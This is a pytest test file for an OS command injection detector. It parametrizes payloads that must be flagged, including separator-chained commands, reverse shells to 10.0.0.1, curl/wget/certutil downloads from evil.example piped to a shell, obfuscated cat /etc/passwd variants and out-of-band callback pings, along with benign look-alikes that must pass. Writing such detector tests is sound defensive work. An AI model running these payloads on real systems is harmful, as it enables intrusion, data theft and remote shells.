"""OS command injection: separators, in-word obfuscation, cmd.exe grammar, prose that must pass."""

from __future__ import annotations

import pytest

from sealgate.detectors.command import DETECTOR
from sealgate.detectors.engine import anomaly_score
from sealgate.detectors.normalize import Value


def _findings(text: str, location: str = "query.q", paranoia: int = 1) -> list[str]:
    return [f.rule_id for f in DETECTOR.detect(Value(text), location, paranoia) if f.paranoia <= paranoia]


def _score(text: str, location: str = "query.q", paranoia: int = 1) -> int:
    return anomaly_score(f for f in DETECTOR.detect(Value(text), location, paranoia) if f.paranoia <= paranoia)


@pytest.mark.parametrize(
    "payload",
    [
        "8.8.8.8; cat /etc/passwd",
        "8.8.8.8;id",
        "8.8.8.8|id",
        "8.8.8.8 | whoami",
        "8.8.8.8||uname -a",
        "8.8.8.8&&ls -la",
        "8.8.8.8\nid",
        "8.8.8.8%0Acat%20/etc/passwd",
        "8.8.8.8%0D%0Awhoami",
        "'; id; '",
        '"; whoami; "',
        "x;sleep 10",
        "x|ping -c 5 127.0.0.1",
        "x; rm -rf /",
        "x; echo $PATH",
        "x; export PATH=/tmp",
        "x; chmod +x /tmp/a",
        "x; ./exploit",
        "x; /tmp/backdoor",
        "x; sudo id",
        "x; nohup wget http://evil.example/a -O /tmp/a",
        "x; FOO=1 curl http://evil.example/a",
    ],
)
def test_separator_then_command_is_critical(payload: str) -> None:
    assert _score(payload) >= 5, _findings(payload)


@pytest.mark.parametrize(
    "payload",
    ["`id`", "foo`whoami`", "$(id)", "a$(sleep 5)", "$(curl evil.example)", "<(id)", "x`uname -a`y"],
)
def test_command_substitution(payload: str) -> None:
    assert "command-substitution" in _findings(payload)


@pytest.mark.parametrize(
    "payload",
    [
        ";cat${IFS}/etc/passwd",
        ";cat$IFS$9/etc/passwd",
        ";{cat,/etc/passwd}",
        ";c'a't /etc/passwd",
        ';w"h"o"am"i',
        ";wh\\oami",
        ";w$@hoami",
        ";wh${x}oami",
        ";/bin/ca? /et*/passwd",
        ";/???/??t /???/p??s??",
        "x|w^h^o^a^m^i",
        "%3Bwhoami",
        "%253Bwhoami",
        "&#59;whoami",
    ],
)
def test_obfuscated_words_and_encodings(payload: str) -> None:
    assert _score(payload) >= 5, _findings(payload)


@pytest.mark.parametrize(
    "payload",
    [
        "& dir C:\\",
        "| type C:\\windows\\win.ini",
        "& net user",
        "& net localgroup administrators",
        "| cmd /c dir",
        "& C:\\Windows\\System32\\cmd.exe /c whoami",
        "127.0.0.1 & %COMSPEC% /c dir",
        "&& powershell -c Get-Process",
        "| certutil -urlcache -split -f http://evil.example/a.exe",
        "& WHOAMI",
    ],
)
def test_windows_commands(payload: str) -> None:
    assert _score(payload) >= 5, _findings(payload)


@pytest.mark.parametrize(
    "payload",
    [
        "for %variable in (set) do command",
        "for /f %i in ('whoami') do echo %i",
        "FOR /F \"tokens=1-3\" %A IN (\"a b\") DO @echo pwnd",
        "FOR /R C:\\temp\\ %G IN (*.bak) do Echo del \"%G\"",
        "& FOR %a IN (a,b,c) DO cmd",
        "IF EXIST C:\\pagefile.sys CMD",
        "IF NOT DEFINED BAR (",
        "if a==b foo",
        "if/i a==b foo",
        'IF /I "%var%" EQU "1" ECHO equality',
        "if (1) equ (1) echo hey",
        "if not (2 equ 2) echo hey",
        "IF ERRORLEVEL 3 IF NOT ERRORLEVEL 4 ...",
        "if not {%1} == {}",
    ],
)
def test_cmd_exe_control_statements(payload: str) -> None:
    assert "command-windows-control" in _findings(payload)


@pytest.mark.parametrize(
    "text",
    [
        "ifq a==b foo",
        "iffoo a==b foo",
        "if3 a==b foo",
        "if x == 1: print(x)",
        "if (a == b) { return c; }",
        "if a == b then print(a) end",
        "If not defined by the user, the default applies",
        "If defined, the value is used",
        "for i in range(10): print(i)",
        "for example, in (most) cases do nothing",
    ],
)
def test_cmd_exe_look_alikes_pass(text: str) -> None:
    assert "command-windows-control" not in _findings(text)


@pytest.mark.parametrize(
    "payload",
    [
        "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
        "python -c 'import socket,subprocess,os;s=socket.socket()'",
        "curl http://evil.example/x.sh | sh",
    ],
)
def test_dangerous_shapes_without_separator(payload: str) -> None:
    assert "command-dangerous-shape" in _findings(payload)


@pytest.mark.parametrize(
    "text",
    [
        "rock & roll",
        "Tom; Jerry",
        "a|b",
        "cat",
        "ls",
        "id",
        "run ls to list files",
        "cat /etc/hosts shows the table",
        "I like cats & dogs; cat people are nice",
        "name;id;email",
        "art;cat;music",
        "Python; PHP; Java",
        "python; php; docker",
        "Barnes & Noble | Books",
        "Q&A | FAQ",
        "R&D; find more",
        "copy & paste",
        "Call me | Start here",
        "Tom & Jerry | Hostname | Status",
        "sleep; eat; repeat",
        "AT&T",
        "a=1&b=2&c=3",
        "--mode=auto|fast|off",
        "<yes|no>",
        "$(document).ready(function(){})",
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        "Wget/1.21.3",
        "Please `read the docs`_ to learn more!",
        "Deprecated, use `source'.",
        "cmp(f1, f2, shallow=True) -> int",
    ],
)
def test_benign_look_alikes_pass(text: str) -> None:
    assert _score(text) < 5, _findings(text)


def test_markdown_code_in_prose_counts_only_at_paranoia_2() -> None:
    text = "To see every file, run `ls -la` in the project directory and then check the output carefully"
    assert _score(text, paranoia=1) < 5
    assert "command-weak-chain" in _findings(text, paranoia=2)


def test_fenced_shell_block_in_prose_passes_at_paranoia_1() -> None:
    text = (
        "Install the tool with the package manager and then verify the version number:\n"
        "```bash\nnpm install -g some-cli\nsome-cli --version\n```\nThat is all you need to get started."
    )
    assert _score(text) < 5, _findings(text)


def test_chain_inside_prose_counts_four_points() -> None:
    text = "Please deliver the parcel to the back door of the house; wget http://evil.example/x -O /tmp/x"
    findings = DETECTOR.detect(Value(text), "body.$.note", 1)
    assert [f.severity for f in findings if f.rule_id == "command-chained-exec"] == ["error"]


def test_weak_word_without_arguments_is_paranoia_2_only() -> None:
    assert _findings("x; cat foo") == []
    assert _findings("x; cat foo", paranoia=2) == ["command-weak-chain"]


def test_leading_command_is_a_warning_at_paranoia_1() -> None:
    findings = DETECTOR.detect(Value("wget http://evil.example/a.sh -O /tmp/a.sh"), "query.q", 1)
    assert [(f.rule_id, f.severity) for f in findings] == [("command-leading-command", "warning")]


def test_payload_after_long_padding_is_found() -> None:
    payload = "a " * 50_000 + "x;id"
    assert _score(payload) >= 5


def test_many_separators_stay_linear_and_correct() -> None:
    # 20,000 separators with nothing dangerous after them, then one real command.
    text = "a;" * 20_000 + "b|whoami"
    assert _score(text) >= 5


def test_finding_fields_and_excerpt() -> None:
    (finding,) = DETECTOR.detect(Value("127.0.0.1\r\ncat /etc/passwd" + "z" * 500), "form.ip", 1)
    assert finding.detector == "command"
    assert finding.location == "form.ip"
    assert finding.rule_id == "command-chained-exec"
    assert "\r" not in finding.excerpt and "\\x0d" in finding.excerpt
    assert len(finding.excerpt) < 200


def test_nothing_to_parse_returns_nothing() -> None:
    assert DETECTOR.detect(Value(""), "query.q", 3) == []
    assert DETECTOR.detect(Value("Vino Rioja"), "query.q", 3) == []


@pytest.mark.parametrize(
    "payload",
    [
        "\\nid\\n",
        "\"\\n/bin/ls -al\\n\"",
        "a;id\\n",
        "\\n/usr/bin/id;",
        "() { :;}; echo vulnerable",
        "cat${IFS}/etc/passwd",
        "ls${IFS}-la",
        "ping%CommonProgramFiles:~10,-18%127.0.0.1",
        "cat ${HOME:0:1}etc${HOME:0:1}passwd",
        "cat ${test//hhh\\/hm/}",
        "who$@ami",
        "wh``oami",
        "w\\ho\\am\\i",
        "/???/??t /???/p??s??",
        "; netsh firewall set opmode disable",
        "; ping abc123.oast.example.com ;",
        "' | ping -n 1 x.oast.example.net |",
        "&& host a1.collab.example.org",
    ],
)
def test_spelled_out_breaks_and_whole_obfuscated_command_lines(payload: str) -> None:
    assert _score(payload) >= 5, _findings(payload)


@pytest.mark.parametrize(
    "text",
    [
        "C:\\Users\\nina\\notes.txt",
        "printf(\"done\\n\");",
        "line one\\nline two",
        "() => { run(); };",
        "The ${IFS} variable holds the field separators",
        "%DATE:~0,4% is the year",
        "Use ${HOME:0:1} to get the first character",
        "Set a default with ${NAME:-guest}",
        "use ``double backticks`` for code in reST",
        "docs\\api\\index",
        "/* a C comment */",
        "/*/* nested */",
        "netsh",
        "Dinner & host mary.smith",
        "Tom; ping me at example.com",
        "see a.b.com; dig deeper into docs",
    ],
)
def test_spelled_out_look_alikes_pass(text: str) -> None:
    assert _score(text) < 5, _findings(text)


@pytest.mark.parametrize(
    "text",
    [
        "\\n" * 100_000,
        "a\\n;" * 30_000,
        "${IFS}" * 50_000,
        "cat" + "${x:1:2}" * 30_000,
        "%A:~1,2%" * 30_000,
        "() {" + " " * 100_000,
        "w" + "``" * 50_000 + "x",
        "/" + "?" * 39 + " x",
        "; ping " + "-c 1 " * 20_000 + "a.b.example",
        "; ping " + "a." * 50_000 + "com",
    ],
)
def test_new_shapes_stay_fast_on_pathological_input(text: str) -> None:
    import time

    started = time.perf_counter()
    DETECTOR.detect(Value(text), "query.q", 3)
    assert time.perf_counter() - started < 1.0
